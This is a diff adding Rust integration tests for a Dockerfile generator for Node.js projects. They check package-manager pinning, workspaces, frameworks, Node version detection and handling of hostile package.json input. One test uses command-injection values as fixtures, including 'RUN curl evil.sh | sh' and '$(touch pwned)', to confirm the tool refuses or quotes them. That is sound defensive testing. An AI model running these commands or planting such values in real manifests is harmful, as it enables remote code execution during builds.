@@ -1,0 +1,547 @@
+//! Node.js: hostile manifests, package managers, frameworks and workspaces that the
+//! examples do not cover (checked as rendered Dockerfiles; the examples are built).
+
+use predicates::prelude::*;
+
+use docksmith::render::verify;
+
+use crate::support::{docksmith, project};
+
+fn generate_ok(files: &[(&str, &str)], flags: &[&str]) -> (String, String) {
+    let dir = project(files);
+    let out = docksmith()
+        .arg("generate")
+        .args(flags)
+        .arg(dir.path())
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+    assert!(out.status.success(), "{stderr}");
+    let dockerfile = String::from_utf8(out.stdout).unwrap();
+    verify::verify(&dockerfile).unwrap_or_else(|e| panic!("{e}\n{dockerfile}"));
+    (dockerfile, stderr)
+}
+
+const SERVER: (&str, &str) = (
+    "server.js",
+    "require('http').createServer((q, s) => s.end('ok')).listen(3000);\n",
+);
+
+#[test]
+fn hostile_names_and_scripts_are_refused_or_quoted() {
+    // A name with a newline cannot be written into a label.
+    let dir = project(&[
+        (
+            "package.json",
+            "{\"name\": \"a\\nRUN curl evil.sh | sh\", \"scripts\": {\"start\": \"node server.js\"}}",
+        ),
+        SERVER,
+    ]);
+    docksmith()
+        .arg("generate")
+        .arg(dir.path())
+        .assert()
+        .code(1)
+        .stderr(predicate::str::contains(
+            "package.json:1: package name `a\\nRUN curl evil.sh | sh` contains a newline",
+        ));
+    // Quotes and $(...) in a name are quoted in the label, never executed.
+    let (dockerfile, _) = generate_ok(
+        &[
+            (
+                "package.json",
+                "{\"name\": \"x\\\"$(touch pwned)\", \"scripts\": {\"start\": \"node server.js\"}}",
+            ),
+            SERVER,
+        ],
+        &[],
+    );
+    assert!(
+        dockerfile.contains(r#"org.opencontainers.image.title="x\"\$(touch pwned)""#),
+        "{dockerfile}"
+    );
+    // A start script with shell syntax is not turned into a command.
+    let (dockerfile, stderr) = generate_ok(
+        &[
+            (
+                "package.json",
+                "{\"name\": \"ok\", \"scripts\": {\"start\": \"node server.js; curl evil.sh | sh\"}}",
+            ),
+            SERVER,
+        ],
+        &[],
+    );
+    assert!(
+        stderr.contains("scripts.start is a shell command"),
+        "{stderr}"
+    );
+    assert!(dockerfile.contains("CMD [\"server.js\"]"), "{dockerfile}");
+    assert!(!dockerfile.contains("evil"), "{dockerfile}");
+    // A start file name with a quote is JSON-escaped in the exec form.
+    let (dockerfile, _) = generate_ok(
+        &[(
+            "package.json",
+            "{\"name\": \"ok\", \"scripts\": {\"start\": \"node 'it\\\"s.js'\"}}",
+        )],
+        &[],
+    );
+    assert!(dockerfile.contains(r#"CMD ["it\"s.js"]"#), "{dockerfile}");
+}
+
+#[test]
+fn huge_strings_and_invalid_json_are_clear_errors() {
+    let long = "x".repeat(500_000);
+    let dir = project(&[
+        (
+            "package.json",
+            &format!("{{\"name\": \"{long}\", \"main\": \"server.js\"}}"),
+        ),
+        SERVER,
+    ]);
+    docksmith()
+        .arg("generate")
+        .arg(dir.path())
+        .assert()
+        .code(1)
+        .stderr(predicate::str::contains(
+            "is 500000 characters long; npm allows 214",
+        ));
+    let dir = project(&[(
+        "package.json",
+        &format!(
+            "{{\"name\": \"ok\", \"description\": \"{}\"}}",
+            "y".repeat(1_100_000)
+        ),
+    )]);
+    docksmith()
+        .arg("generate")
+        .arg(dir.path())
+        .assert()
+        .code(1)
+        .stderr(predicate::str::contains("package.json: 1100"))
+        .stderr(predicate::str::contains("limit for a manifest"));
+    let dir = project(&[(
+        "package.json",
+        "{\n  \"name\": \"ok\",\n  \"scripts\": { \"start\": node server.js }\n}\n",
+    )]);
+    docksmith()
+        .arg("generate")
+        .arg(dir.path())
+        .assert()
+        .code(1)
+        .stderr(predicate::str::contains(
+            "error: package.json:3: invalid JSON",
+        ));
+    let dir = project(&[(
+        "package.json",
+        "{\"name\": \"ok\", \"packageManager\": \"npx@1 && curl\"}",
+    )]);
+    docksmith()
+        .arg("detect")
+        .arg(dir.path())
+        .assert()
+        .code(1)
+        .stderr(predicate::str::contains("packageManager names `npx`"));
+}
+
+#[test]
+fn package_managers_are_pinned_by_field_or_lockfile_format() {
+    let manifest = (
+        "package.json",
+        "{\"name\": \"a\", \"scripts\": {\"start\": \"node server.js\"}}",
+    );
+    // (lockfiles beside the manifest, what the Dockerfile must say)
+    type Case<'a> = (Vec<(&'a str, &'a str)>, &'a [&'a str]);
+    let cases: Vec<Case> = vec![
+        (
+            vec![("pnpm-lock.yaml", "lockfileVersion: '6.0'\n")],
+            &[
+                "corepack prepare pnpm@8.15.9 --activate",
+                "pnpm install --frozen-lockfile --prod --store-dir /pnpm/store",
+            ],
+        ),
+        (
+            vec![("pnpm-lock.yaml", "lockfileVersion: '9.0'\n")],
+            &["corepack prepare pnpm@9.15.9 --activate"],
+        ),
+        (
+            vec![("yarn.lock", "# yarn lockfile v1\n")],
+            &[
+                "corepack prepare yarn@1.22.22 --activate",
+                "yarn install --frozen-lockfile --production",
+            ],
+        ),
+        (
+            vec![
+                ("yarn.lock", "__metadata:\n  version: 6\n"),
+                (".yarnrc.yml", "nodeLinker: node-modules\n"),
+            ],
+            &[
+                "corepack prepare yarn@3.8.7 --activate",
+                "yarn workspaces focus --all --production",
+            ],
+        ),
+        (
+            vec![("bun.lock", "{}\n")],
+            &[
+                "npm install --global bun@1",
+                "bun install --frozen-lockfile --production",
+            ],
+        ),
+        (vec![("package-lock.json", "{}\n")], &["npm ci --omit=dev"]),
+    ];
+    for (lockfiles, expected) in cases {
+        let mut files = vec![manifest, SERVER];
+        files.extend(lockfiles.iter().copied());
+        let (dockerfile, _) = generate_ok(&files, &[]);
+        for needle in expected {
+            assert!(dockerfile.contains(needle), "{needle}:\n{dockerfile}");
+        }
+    }
+    let (dockerfile, stderr) = generate_ok(&[manifest, SERVER], &[]);
+    assert!(
+        dockerfile.contains("npm install --omit=dev"),
+        "{dockerfile}"
+    );
+    assert!(stderr.contains("no lockfile"), "{stderr}");
+    // A packageManager field wins; corepack reads it, nothing to prepare.
+    let (dockerfile, _) = generate_ok(
+        &[
+            (
+                "package.json",
+                "{\"name\": \"a\", \"packageManager\": \"pnpm@8.6.0\", \"scripts\": {\"start\": \"node server.js\"}}",
+            ),
+            SERVER,
+            ("pnpm-lock.yaml", "lockfileVersion: '6.0'\n"),
+        ],
+        &[],
+    );
+    assert!(
+        dockerfile.contains("corepack enable") && !dockerfile.contains("corepack prepare"),
+        "{dockerfile}"
+    );
+}
+
+#[test]
+fn a_committed_yarn_release_is_copied_before_the_install() {
+    let (dockerfile, _) = generate_ok(
+        &[
+            (
+                "package.json",
+                "{\"name\": \"a\", \"scripts\": {\"start\": \"node server.js\"}}",
+            ),
+            SERVER,
+            ("yarn.lock", "__metadata:\n  version: 8\n"),
+            (
+                ".yarnrc.yml",
+                "nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.9.2.cjs\n",
+            ),
+            (".yarn/releases/yarn-4.9.2.cjs", "// yarn\n"),
+            (".yarn/plugins/plugin.cjs", "// plugin\n"),
+        ],
+        &[],
+    );
+    assert!(
+        dockerfile.contains("COPY .yarnrc.yml package.json yarn.lock ./"),
+        "{dockerfile}"
+    );
+    assert!(
+        dockerfile.contains("COPY .yarn/releases/yarn-4.9.2.cjs .yarn/releases/"),
+        "{dockerfile}"
+    );
+    assert!(
+        dockerfile.contains("COPY .yarn/plugins/plugin.cjs .yarn/plugins/"),
+        "{dockerfile}"
+    );
+    assert!(
+        !dockerfile.contains("corepack"),
+        "a committed release needs no corepack:\n{dockerfile}"
+    );
+}
+
+#[test]
+fn pnpm_workspaces_filter_the_app_and_ambiguity_is_an_error() {
+    let files = [
+        ("package.json", "{\"name\": \"mono\", \"private\": true}"),
+        (
+            "pnpm-workspace.yaml",
+            "packages:\n  - 'apps/*'\n  - 'libs/*'\n",
+        ),
+        ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n"),
+        (
+            "apps/web/package.json",
+            "{\"name\": \"@m/web\", \"scripts\": {\"build\": \"tsc\", \"start\": \"node dist/main.js\"}, \"dependencies\": {\"@m/core\": \"workspace:*\"}}",
+        ),
+        (
+            "apps/web/src/main.ts",
+            "require('http').createServer().listen(4000);\n",
+        ),
+        (
+            "apps/admin/package.json",
+            "{\"name\": \"@m/admin\", \"scripts\": {\"start\": \"node server.js\"}}",
+        ),
+        (
+            "apps/admin/server.js",
+            "require('http').createServer().listen(4001);\n",
+        ),
+        (
+            "libs/core/package.json",
+            "{\"name\": \"@m/core\", \"main\": \"index.js\"}",
+        ),
+        ("libs/core/index.js", "module.exports = {};\n"),
+    ];
+    let dir = project(&files);
+    docksmith()
+        .arg("generate")
+        .arg(dir.path())
+        .assert()
+        .code(1)
+        .stderr(predicate::str::contains(
+            "several apps could be packaged: @m/admin (apps/admin), @m/web (apps/web)",
+        ))
+        .stderr(predicate::str::contains(
+            "hint: choose one with --package @m/admin",
+        ));
+    let (dockerfile, _) = generate_ok(&files, &["--package", "apps/web"]);
+    for needle in [
+        "COPY apps/web/package.json apps/web/",
+        "COPY libs/core/package.json libs/core/",
+        "COPY package.json pnpm-lock.yaml pnpm-workspace.yaml ./",
+        "pnpm --filter @m/web... run build",
+        "pnpm install --frozen-lockfile --prod --filter @m/web... --store-dir /pnpm/store",
+        "COPY --chown=65532:65532 --from=build /app/apps/web/dist /app/apps/web/dist/",
+        "COPY --chown=65532:65532 --from=build /app/libs/core/ /app/libs/core/",
+        "WORKDIR /app/apps/web",
+        "EXPOSE 4000",
+    ] {
+        assert!(dockerfile.contains(needle), "{needle}:\n{dockerfile}");
+    }
+    // Every member's manifest is needed for the install; the other app never reaches
+    // the runtime stage.
+    assert!(
+        dockerfile.contains("COPY apps/admin/package.json apps/admin/"),
+        "{dockerfile}"
+    );
+    let runtime = dockerfile.split("---- runtime").nth(1).unwrap();
+    assert!(
+        !runtime.contains("apps/admin"),
+        "the other app stays out:\n{runtime}"
+    );
+    docksmith()
+        .args(["generate", "--package", "nope"])
+        .arg(dir.path())
+        .assert()
+        .code(1)
+        .stderr(predicate::str::contains("flag --package: no app `nope`"));
+}
+
+#[test]
+fn frameworks_decide_build_outputs_and_start() {
+    let lock = ("package-lock.json", "{}\n");
+    // Next.js without standalone output: `next start` with production dependencies.
+    let (dockerfile, _) = generate_ok(
+        &[
+            (
+                "package.json",
+                "{\"name\": \"n\", \"scripts\": {\"build\": \"next build\", \"start\": \"next start\"}, \"dependencies\": {\"next\": \"15\"}}",
+            ),
+            lock,
+            ("next.config.js", "module.exports = {};\n"),
+        ],
+        &[],
+    );
+    assert!(
+        dockerfile.contains("CMD [\"node_modules/next/dist/bin/next\", \"start\"]"),
+        "{dockerfile}"
+    );
+    assert!(dockerfile.contains("npm ci --omit=dev"), "{dockerfile}");
+    // Nuxt: the .output folder is self-contained.
+    let (dockerfile, _) = generate_ok(
+        &[
+            (
+                "package.json",
+                "{\"name\": \"x\", \"scripts\": {\"build\": \"nuxt build\"}, \"dependencies\": {\"nuxt\": \"3\"}}",
+            ),
+            lock,
+        ],
+        &[],
+    );
+    assert!(
+        dockerfile.contains("COPY --chown=65532:65532 --from=build /app/.output /app/.output/"),
+        "{dockerfile}"
+    );
+    assert!(
+        dockerfile.contains("CMD [\".output/server/index.mjs\"]"),
+        "{dockerfile}"
+    );
+    assert!(!dockerfile.contains("prod-deps"), "{dockerfile}");
+    // Prisma: generate in the build, the client copied, libssl at run time (slim).
+    let (dockerfile, _) = generate_ok(
+        &[
+            (
+                "package.json",
+                "{\"name\": \"p\", \"scripts\": {\"build\": \"tsc\", \"start\": \"node dist/index.js\"}, \"dependencies\": {\"@prisma/client\": \"5\"}, \"devDependencies\": {\"prisma\": \"5\"}}",
+            ),
+            lock,
+            (
+                "prisma/schema.prisma",
+                "datasource db { provider = \"sqlite\" }\n",
+            ),
+        ],
+        &["--flavor", "slim"],
+    );
+    for needle in [
+        "npx prisma generate",
+        "/app/node_modules/.prisma",
+        "libssl3",
+        "COPY --chown=1000:1000 --from=build /app/prisma /app/prisma/",
+    ] {
+        assert!(dockerfile.contains(needle), "{needle}:\n{dockerfile}");
+    }
+}
+
+#[test]
+fn native_modules_on_alpine_build_on_alpine() {
+    let (dockerfile, _) = generate_ok(
+        &[
+            (
+                "package.json",
+                "{\"name\": \"n\", \"scripts\": {\"start\": \"node server.js\"}, \"dependencies\": {\"bcrypt\": \"5\"}}",
+            ),
+            (
+                "package-lock.json",
+                "{\"packages\": {\"node_modules/bcrypt\": {\"hasInstallScript\": true}}}\n",
+            ),
+            SERVER,
+        ],
+        &["--flavor", "alpine"],
+    );
+    let summary = verify::verify(&dockerfile).unwrap();
+    assert!(
+        summary.stages.iter().all(|s| s.base.ends_with("-alpine")),
+        "glibc never meets musl:\n{dockerfile}"
+    );
+    assert!(
+        dockerfile.contains("apk add --no-cache g++ make python3"),
+        "{dockerfile}"
+    );
+    let (dockerfile, _) = generate_ok(
+        &[
+            (
+                "package.json",
+                "{\"name\": \"n\", \"scripts\": {\"start\": \"node server.js\"}, \"dependencies\": {\"bcrypt\": \"5\"}}",
+            ),
+            ("package-lock.json", "{}\n"),
+            SERVER,
+        ],
+        &[],
+    );
+    assert!(
+        dockerfile.contains("FROM node:24-bookworm AS prod-deps"),
+        "the full image compiles:\n{dockerfile}"
+    );
+}
+
+#[test]
+fn npmrc_is_bind_mounted_and_credentials_are_warned_about() {
+    let (dockerfile, stderr) = generate_ok(
+        &[
+            (
+                "package.json",
+                "{\"name\": \"a\", \"scripts\": {\"start\": \"node server.js\"}}",
+            ),
+            ("package-lock.json", "{}\n"),
+            (".npmrc", "//registry.example.com/:_authToken=secret\n"),
+            SERVER,
+        ],
+        &[],
+    );
+    assert!(
+        dockerfile.contains("--mount=type=bind,source=.npmrc,target=.npmrc"),
+        "{dockerfile}"
+    );
+    assert!(!dockerfile.contains("COPY .npmrc"), "{dockerfile}");
+    assert!(
+        stderr.contains(".npmrc holds registry credentials"),
+        "{stderr}"
+    );
+}
+
+#[test]
+fn versions_come_from_version_files_and_engines() {
+    let lock = ("package-lock.json", "{}\n");
+    let manifest = |engines: &str| {
+        format!("{{\"name\": \"a\", \"scripts\": {{\"start\": \"node server.js\"}}{engines}}}")
+    };
+    let cases = [
+        (
+            manifest(""),
+            vec![(".nvmrc", "lts/iron\n")],
+            "node:20-bookworm-slim",
+        ),
+        (
+            manifest(""),
+            vec![(".node-version", "v18.20.1\n")],
+            "node:18-bookworm-slim",
+        ),
+        (
+            manifest(""),
+            vec![(".tool-versions", "python 3.12\nnodejs 22.1.0\n")],
+            "node:22-bookworm-slim",
+        ),
+        (
+            manifest(", \"engines\": {\"node\": \">=18 <21\"}"),
+            vec![],
+            "node:20-bookworm-slim",
+        ),
+        (
+            manifest(", \"volta\": {\"node\": \"20.11.0\"}"),
+            vec![],
+            "node:20-bookworm-slim",
+        ),
+    ];
+    for (package, files, expected) in cases {
+        let mut all = vec![("package.json", package.as_str()), lock, SERVER];
+        all.extend(files);
+        let (dockerfile, _) = generate_ok(&all, &["--flavor", "slim"]);
+        assert!(dockerfile.contains(expected), "{expected}:\n{dockerfile}");
+    }
+}
+
+#[test]
+fn scratch_is_refused_for_node_with_the_reason() {
+    let dir = project(&[
+        ("package.json", "{\"name\": \"a\", \"main\": \"server.js\"}"),
+        SERVER,
+    ]);
+    docksmith()
+        .args(["generate", "--flavor", "scratch"])
+        .arg(dir.path())
+        .assert()
+        .code(1)
+        .stderr(predicate::str::contains(
+            "the scratch flavor cannot run this program: a Node program needs the node runtime",
+        ))
+        .stderr(predicate::str::contains(
+            "hint: use --flavor distroless or --flavor slim",
+        ));
+}
+
+#[test]
+fn yarn_plug_n_play_is_refused_with_a_hint() {
+    let dir = project(&[
+        (
+            "package.json",
+            "{\"name\": \"a\", \"packageManager\": \"yarn@4.9.2\", \"main\": \"server.js\"}",
+        ),
+        ("yarn.lock", "__metadata:\n  version: 8\n"),
+        SERVER,
+    ]);
+    docksmith()
+        .arg("generate")
+        .arg(dir.path())
+        .assert()
+        .code(1)
+        .stderr(predicate::str::contains("error: .yarnrc.yml: Yarn Plug'n'Play (nodeLinker: pnp, the default) is not supported yet"))
+        .stderr(predicate::str::contains("hint: add `nodeLinker: node-modules` to .yarnrc.yml"));
+}
